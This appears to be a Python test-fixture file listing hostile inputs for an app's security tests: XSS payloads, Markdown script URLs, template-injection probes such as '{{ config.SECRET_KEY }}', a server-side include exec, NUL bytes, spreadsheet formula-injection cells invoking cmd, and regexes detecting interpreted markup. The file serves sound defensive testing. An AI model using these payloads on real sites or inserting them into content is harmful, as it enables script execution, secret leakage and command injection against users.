"""Hostile strings that a person could type into any text field or write into course content.

Each payload, if a page or PDF interpreted it rather than showing it, would run script, load
something from outside, break out of an attribute, or evaluate a template. The browser tests
set `window.__xss` (or the document title) through them, so a payload that executes leaves a
trace; the markup tests look for what a payload would turn into once interpreted.
"""

# The value an executing payload writes, so a test can tell it ran.
MARK = "__xss"

XSS_PAYLOADS = [
    # script elements, whole and broken
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//127.0.0.1:9/xss.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    # event handlers
    "<img src=x onerror=window.__xss=1>",
    "<img src=x oNeRrOr=\"window.__xss=1\">",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    # attribute breakouts
    "\" onmouseover=\"window.__xss=1\" x=\"",
    "' onfocus='window.__xss=1' autofocus x='",
    "\"><img src=x onerror=window.__xss=1>",
    "'><svg onload=window.__xss=1>",
    # dangerous URLs, as HTML and as Markdown
    "<a href=\"javascript:window.__xss=1\">click</a>",
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](java&#115;cript:window.__xss=1)",
    "[click](&#x6A;avascript:window.__xss=1)",
    "[click](  javascript:window.__xss=1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![x](javascript:window.__xss=1)",
    "![x](x\" onerror=\"window.__xss=1)",
    "![tracker](http://127.0.0.1:9/pixel.png)",
    "<img src=\"http://127.0.0.1:9/pixel.png\">",
    "[a]: javascript:window.__xss=1\n\n[click][a]",
    "<https://example.com/\" onmouseover=\"window.__xss=1>",
    "<javascript:window.__xss=1>",
    # styles and embedding
    "<style>body{background:url(http://127.0.0.1:9/bg.png)}</style>",
    "<div style=\"background:url(javascript:window.__xss=1)\">x</div>",
    "<object data=\"data:text/html,<script>parent.__xss=1</script>\"></object>",
    "<embed src=\"javascript:window.__xss=1\">",
    "<base href=\"http://127.0.0.1:9/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
    "<form action=\"javascript:window.__xss=1\"><button>go</button></form>",
    # template injection: Jinja, JavaScript template literals, server-side includes
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<!--#exec cmd=\"ls\" -->",
    "%(name)s %s {0}",
    # unicode tricks
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u202eexe.fdp\u202c",
    "zero\u200bwidth\u200d<script>window.__xss=1</script>",
    "Dewi \U0001F600 Ñuñez \u0130stanbul",
]

# What an interpreted payload leaves in the HTML: a script element, an event handler attribute,
# a script URL, an embedded frame or object. Escaped text never matches these.
DANGEROUS_MARKUP = [
    r"<script",
    r"<svg[\s/>]",
    r"<iframe",
    r"<object",
    r"<embed",
    r"<base[\s>]",
    r"<meta[^>]*refresh",
    r"<style>body\{background:url\(http",
    r"<[a-z][^>]*\s(on[a-z]+)\s*=",
    r"(?:href|src|action|data)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):",
    r"<img[^>]*src\s*=\s*[\"']?http://127\.0\.0\.1:9",
]

# NUL characters: no text people write has one and PostgreSQL cannot store one, so the app
# refuses them at the door rather than storing them anywhere.
NUL_PAYLOADS = [
    "<scr\u0000ipt>window.__xss=1</scr\u0000ipt>",
    "Dewi\u0000",
    "\u0000",
]

# Cells that a spreadsheet would run as a formula (OWASP CSV injection).
FORMULA_PAYLOADS = [
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
